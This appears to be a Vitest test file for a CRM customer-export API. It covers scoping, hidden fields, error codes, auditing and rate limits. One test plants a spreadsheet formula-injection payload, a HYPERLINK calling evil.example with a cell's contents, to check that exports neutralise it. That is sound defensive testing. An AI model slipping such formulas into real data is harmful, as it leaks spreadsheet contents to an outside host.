import { describe, expect, it } from 'vitest';
import { usePersonas } from '../../test/file-context.js';
import { columnOf, csvRows, xlsxRows } from '../../test/export-files.js';
import { createTestContext } from '../../test/test-app.js';

const { ctx, p } = usePersonas();

/** A salesperson's scope (own customers) with the export right the built-in salesperson lacks. */
async function ownScopeExporter(fieldPermissions = {}) {
  const role = await ctx.createRole(p.orgId, {
    code: `exporter_${Math.random().toString(36).slice(2, 8)}`,
    permissions: ['customers.view', 'customers.create', 'customers.export'],
    dataScope: 'own',
    fieldPermissions,
  });
  const user = await ctx.createUser({ orgId: p.orgId, roleIds: [role], departmentId: p.departments.east });
  return { user, client: await ctx.login(user) };
}

describe('customer export', () => {
  it("an export of a salesperson's list holds only their customers", async () => {
    const { client } = await ownScopeExporter();
    const mine = ['导出测试甲公司', '导出测试乙公司'];
    for (const name of mine)
      expect((await client.post('/api/v1/customers', { kind: 'company', name })).statusCode).toBe(201);

    const csv = await client.get('/api/v1/customers/export?format=csv');
    expect(csv.statusCode).toBe(200);
    const rows = csvRows(csv);
    expect(columnOf(rows, '客户名称').sort()).toEqual([...mine].sort());

    const xlsx = await client.get('/api/v1/customers/export?format=xlsx');
    expect(xlsx.statusCode).toBe(200);
    expect(columnOf(await xlsxRows(xlsx), '客户名称').sort()).toEqual([...mine].sort());
  });

  it("a manager's export holds their department's customers with the list's filters and sort", async () => {
    const response = await p.clients.eastManager.get('/api/v1/customers/export?format=csv&sort=name');
    expect(response.statusCode).toBe(200);
    const rows = csvRows(response);
    const names = columnOf(rows, '客户名称');
    const list = (await p.clients.eastManager.get('/api/v1/customers?limit=200&sort=name')).json().items as {
      name: string;
    }[];
    expect(names).toEqual(list.map((c) => c.name));
    expect(names.some((name) => name.startsWith('r3'))).toBe(false);
    // Labels in the reader's language, dates in the organization's time zone, never codes.
    expect(columnOf(rows, '客户阶段')[0]).toBe('潜在客户');
    expect(columnOf(rows, '创建时间')[0]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename=".*\.csv"; filename\*=UTF-8''/);
    expect(decodeURIComponent(response.headers['content-disposition']!.split("''")[1]!)).toMatch(
      /^客户-\d{8}-\d{4}\.csv$/,
    );

    const filtered = await p.clients.eastManager.get(`/api/v1/customers/export?format=csv&ownerId=${p.users.r2.id}`);
    expect(columnOf(csvRows(filtered), '客户名称').sort()).toEqual(
      ['r2客户0号贸易有限公司', 'r2客户1号贸易有限公司', 'r2客户2号贸易有限公司'].sort(),
    );
  });

  it('a cell that a spreadsheet would run as a formula exports inert, in CSV and in Excel', async () => {
    const { client } = await ownScopeExporter();
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")';
    const created = await client.post('/api/v1/customers', { kind: 'company', name: evil, remarks: '@SUM(1+1)' });
    expect(created.statusCode).toBe(201);
    const csvRowsOf = csvRows(await client.get('/api/v1/customers/export?format=csv'));
    expect(columnOf(csvRowsOf, '客户名称')).toEqual([`'${evil}`]);
    expect(columnOf(csvRowsOf, '备注')).toEqual(["'@SUM(1+1)"]);
    const sheet = await xlsxRows(await client.get('/api/v1/customers/export?format=xlsx'));
    expect(columnOf(sheet, '客户名称')).toEqual([`'${evil}`]);
  });

  it('a hidden field is left out of the file', async () => {
    const { client } = await ownScopeExporter({ 'customers.phone': 'hidden' });
    await client.post('/api/v1/customers', { kind: 'company', name: '隐藏电话公司', phone: '13800009999' });
    const rows = csvRows(await client.get('/api/v1/customers/export?format=csv'));
    expect(rows[0]).not.toContain('电话');
    expect(rows.flat().join('|')).not.toContain('13800009999');
    expect(rows[0]).toContain('电子邮箱');
  });

  it('bad input answers 400 naming the parameter, in the reader language', async () => {
    for (const query of ['format=pdf', 'sort=password', '', 'format=csv&limit=5', 'format=csv&stage=nope']) {
      const response = await p.clients.admin.get(`/api/v1/customers/export?${query}`);
      expect(response.statusCode, query).toBe(400);
      const field = response.json().error.fields[0].field as string;
      expect(['format', 'sort', 'limit', 'stage']).toContain(field);
    }
    const missing = await p.clients.admin.get('/api/v1/customers/export');
    expect(missing.json().error.fields[0].message).toContain('文件格式');
  });

  it('answers 403 without customers.export, before reading anything', async () => {
    const response = await p.clients.r1.get('/api/v1/customers/export?format=csv');
    expect(response.statusCode).toBe(403);
    expect(response.json().error.code).toBe('forbidden');
  });

  it('each export is audited with its format, filters and row count', async () => {
    await p.clients.head.get(`/api/v1/customers/export?format=xlsx&ownerId=${p.users.r3.id}`);
    const entries = (await p.clients.admin.get('/api/v1/audit-log?action=export&limit=200')).json().items as {
      actorId: string;
      entity: string;
      after: { format: string; filters: Record<string, unknown>; rows: number; complete: boolean };
    }[];
    const mine = entries.find((entry) => entry.actorId === p.users.head.id);
    expect(mine).toMatchObject({
      entity: 'customer',
      after: { format: 'xlsx', filters: { ownerId: p.users.r3.id }, rows: 3, complete: true },
    });
  });
});

describe('export rate limit', () => {
  it('answers 429 with a localized message past the per-user limit', async () => {
    const limited = await createTestContext({ exportRateLimitPerMinute: 2 });
    try {
      const { orgId, roleIds } = await limited.createOrg();
      const client = await limited.login(await limited.createUser({ orgId, roleIds: [roleIds.admin!] }));
      for (let i = 0; i < 2; i++)
        expect((await client.get('/api/v1/customers/export?format=csv')).statusCode).toBe(200);
      const refused = await client.get('/api/v1/customers/export?format=csv');
      expect(refused.statusCode).toBe(429);
      expect(Number(refused.headers['retry-after'])).toBeGreaterThan(0);
      expect(refused.json().error.message).toMatch(/请求过于频繁/);
      // Another user keeps their own budget.
      const other = await limited.login(await limited.createUser({ orgId, roleIds: [roleIds.admin!] }));
      expect((await other.get('/api/v1/customers/export?format=csv')).statusCode).toBe(200);
    } finally {
      await limited.close();
    }
  });
});
